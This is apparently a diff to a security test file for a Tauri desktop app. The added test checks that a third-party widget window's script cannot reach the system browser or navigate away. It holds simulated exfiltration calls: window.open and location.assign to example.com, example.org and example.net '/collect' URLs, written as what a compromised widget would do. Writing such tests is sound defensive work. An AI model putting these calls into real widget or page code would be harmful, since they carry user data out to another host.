@@ -2,6 +2,7 @@
 // - every window that shows widget (third-party) content can call no command at all: every app
 //   command (read from src-tauri/command_names.rs) and the core and plugin commands are refused;
 // - the main window is refused the plugin commands its capability does not grant;
+// - a widget's script cannot reach the system browser (scripted window.open or navigation);
 // - the main window cannot be navigated away from the app, and its CSP stops injected script.
 // Demo mode: the embedded simulator serves the API and the widget scripts.
 import { test, before, after } from "node:test";
@@ -249,6 +250,32 @@ test("a widget window cannot open a window of its own", async () => {
   await browser.switchToWindow(mainHandle);
   assert.ok((await invoke("app_info")).ok);
   assert.equal((await browser.getWindowHandles()).length, 2, `window.open gave ${opened} and made a window`);
+  await closeOtherWindows();
+});
+
+test("a widget's script cannot reach the system browser: scripted window.open and navigation are refused", async () => {
+  await browser.switchToWindow(mainHandle);
+  await widgets[0].open();
+  await switchToNewWindow([mainHandle]);
+  await browser.$('[data-testid="cc-report"]').waitForExist({ timeout: 20000 });
+  const hostPage = await browser.getUrl();
+  // What a compromised widget script would do to carry report data out.
+  await browser.execute(() => {
+    window.open("https://example.com/collect?from=window-open", "_blank");
+    window.open("https://example.org/collect?from=window-open-noopener", "_blank", "noopener");
+  });
+  await browser.execute(() => {
+    window.location.assign("https://example.net/collect?from=navigation");
+  });
+  // Let the app act on both (a full round trip from the main window), then look.
+  await browser.switchToWindow(mainHandle);
+  assert.ok((await invoke("app_info")).ok);
+  await new Promise((resolve) => setTimeout(resolve, 1500));
+  assert.deepEqual(openedSinceStart(), [], "nothing reached the system browser");
+  assert.equal((await browser.getWindowHandles()).length, 2, "no window was created");
+  const [widgetHandle] = (await browser.getWindowHandles()).filter((h) => h !== mainHandle);
+  await browser.switchToWindow(widgetHandle);
+  assert.equal(new URL(await browser.getUrl()).origin, new URL(hostPage).origin, "the widget window stayed on its host page");
   await closeOtherWindows();
 });
 
